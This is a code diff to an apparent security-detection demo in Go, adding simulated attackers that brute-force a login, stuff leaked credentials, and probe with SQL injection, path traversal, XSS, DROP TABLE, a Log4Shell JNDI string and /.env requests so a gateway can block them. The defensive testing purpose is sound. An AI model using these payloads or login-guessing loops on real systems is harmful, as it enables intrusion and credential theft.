@@ -8,6 +8,7 @@ import (
 	"io"
 	"math/rand/v2"
 	"net/http"
+	"strconv"
 	"sync"
 	"time"
 )
@@ -184,33 +185,98 @@ func snoop(p pace, c *client, password string) {
 	}
 }
 
-// attacker waits a moment, then runs a password-guessing burst against one
-// account, a credential-stuffing pass over many user names, and a few
-// injection probes, all from one address: what the detection stage must
-// catch. Its script always runs to the end (only the caller's context
-// stops it).
-func attacker(p pace, c *client, wordlist []string, alicePassword string) {
-	ctx := p.hard
-	if !pause(ctx, 500*time.Millisecond, 800*time.Millisecond) {
+// blocked reports whether an answer is the gateway refusing a blocked
+// client (not the application's own 403).
+func blocked(status int, body []byte) bool {
+	return status == http.StatusForbidden && bytes.Contains(body, []byte("client is blocked"))
+}
+
+// Attack scripts go on until the gateway blocks them (then send a few more
+// requests, which it refuses), or until their list ends: the demo's
+// outcome never depends on how fast the machine is.
+const afterBlock = 3
+
+// bruteForcer guesses alice's password from one address, fast.
+func bruteForcer(ctx context.Context, c *client, wordlist []string) {
+	if !pause(ctx, 400*time.Millisecond, 600*time.Millisecond) {
 		return
 	}
-	for _, pw := range wordlist { // brute force: fast failed logins
-		if ctx.Err() != nil {
-			return
+	refused := 0
+	for i := 0; i < 300 && refused < afterBlock && ctx.Err() == nil; i++ {
+		pw := wordlist[i%len(wordlist)]
+		if i >= len(wordlist) {
+			pw += strconv.Itoa(i / len(wordlist))
 		}
-		c.login(ctx, "alice", pw)
-		pause(ctx, 5*time.Millisecond, 15*time.Millisecond)
-	}
-	c.login(ctx, "alice", alicePassword) // the guess that works: success after many failures
-	for i := range 30 {                  // stuffing: one try per leaked account
-		if ctx.Err() != nil {
-			return
+		c.secrets.add(pw)
+		status, body := c.do(ctx, "POST", "/api/login", map[string]string{"username": "alice", "password": pw})
+		if blocked(status, body) {
+			refused++
 		}
-		c.login(ctx, fmt.Sprintf("user%03d@example.com", i), fmt.Sprintf("Leaked#%04d", i*7919%10000))
-		pause(ctx, 5*time.Millisecond, 15*time.Millisecond)
+		slowDown(ctx, i)
 	}
-	c.ua = "sqlmap/1.8.4#stable (https://sqlmap.org)"
-	for _, probe := range []string{"/api/orders/1%27%20OR%20%271%27=%271", "/api/orders?id=1%20UNION%20SELECT%20password%20FROM%20users--", "/api/../../etc/passwd"} {
-		c.do(ctx, "GET", probe, nil)
+}
+
+// slowDown paces an attacker: fast at first, then slower, so that a
+// loaded machine where detection lags sees a long attack, not a huge one.
+func slowDown(ctx context.Context, i int) {
+	if i < 60 {
+		pause(ctx, 5*time.Millisecond, 15*time.Millisecond)
+	} else {
+		pause(ctx, 80*time.Millisecond, 120*time.Millisecond)
+	}
+}
+
+// stuffer tries leaked user name and password pairs, several at once, as
+// credential-stuffing tools do.
+func stuffer(ctx context.Context, c *client) {
+	if !pause(ctx, 900*time.Millisecond, 1100*time.Millisecond) {
+		return
+	}
+	var mu sync.Mutex
+	refused, next := 0, 0
+	var wg sync.WaitGroup
+	for range 4 {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			for ctx.Err() == nil {
+				mu.Lock()
+				i := next
+				next++
+				stop := refused >= afterBlock || i >= 200
+				mu.Unlock()
+				if stop {
+					return
+				}
+				pw := fmt.Sprintf("Leaked#%04d", i*7919%10000)
+				c.secrets.add(pw)
+				status, body := c.do(ctx, "POST", "/api/login", map[string]string{"username": fmt.Sprintf("user%03d@example.com", i), "password": pw})
+				if blocked(status, body) {
+					mu.Lock()
+					refused++
+					mu.Unlock()
+				}
+				slowDown(ctx, i)
+			}
+		}()
+	}
+	wg.Wait()
+}
+
+// prober looks for injection and traversal holes with an attack tool.
+func prober(ctx context.Context, c *client) {
+	if !pause(ctx, 1400*time.Millisecond, 1600*time.Millisecond) {
+		return
+	}
+	probes := []string{"/api/orders/1%27%20OR%20%271%27=%271", "/api/orders?id=1%20UNION%20SELECT%20password%20FROM%20users--",
+		"/api/../../etc/passwd", "/api/orders/1;DROP%20TABLE%20orders", "/api/users?name=%3Cscript%3Ealert(1)%3C/script%3E",
+		"/api/orders/%24%7Bjndi:ldap://203.0.113.9/a%7D", "/.env", "/api/orders/1%20AND%20SLEEP(5)"}
+	refused := 0
+	for i := 0; i < 60 && refused < afterBlock && ctx.Err() == nil; i++ {
+		status, body := c.do(ctx, "GET", probes[i%len(probes)], nil)
+		if blocked(status, body) {
+			refused++
+		}
+		pause(ctx, 60*time.Millisecond, 90*time.Millisecond)
 	}
 }
